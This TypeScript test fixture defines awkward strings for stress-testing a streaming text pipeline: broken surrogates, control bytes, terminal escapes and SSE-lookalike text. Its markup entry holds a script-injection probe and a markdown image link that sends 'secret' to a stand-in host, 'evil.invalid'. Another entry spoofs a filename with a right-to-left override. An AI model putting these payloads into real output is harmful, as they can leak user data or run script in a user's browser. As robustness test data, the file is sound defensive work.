/** Pieces of text that have broken programs before; each is a script's `text`. */
export const awkwardTexts = {
  /** One emoji as two halves of a surrogate pair, each in a JSON string of its own. */
  splitEmoji: ['before \ud83e', '\udd8a after'],
  /** Half of a pair whose other half never comes. */
  loneSurrogate: ['lone \ud83e', ' end'],
  nul: ['zero\u0000byte', ' end'],
  /** Terminal colours, a cleared screen, a title, a bell. */
  ansi: ['\u001b[31mred\u001b[0m \u001b[2J', '\u001b]0;title\u0007 end'],
  /** A byte order mark, right-to-left override, combining marks without end. */
  unicode: ['\ufeffbom \u202egnp.exe\u202c ', `z${'\u0351'.repeat(40)} 👩‍👩‍👧‍👦 नमस्ते 你好`],
  markup: ['<script>alert(1)</script>', '![x](https://evil.invalid/?d=secret)'],
  /** Looks like the wire format itself. */
  sse: ['data: [DONE]\n\nevent: error\ndata: {}\n\n', '\r\n\r\n: comment\n'],
} as const satisfies Record<string, readonly string[]>

/** One delta of so many bytes of ASCII, 3 MB unless told. */
export function hugePiece(bytes = 3_000_000): string {
  return 'Lorem ipsum dolor sit amet. '.repeat(Math.ceil(bytes / 28)).slice(0, bytes)
}
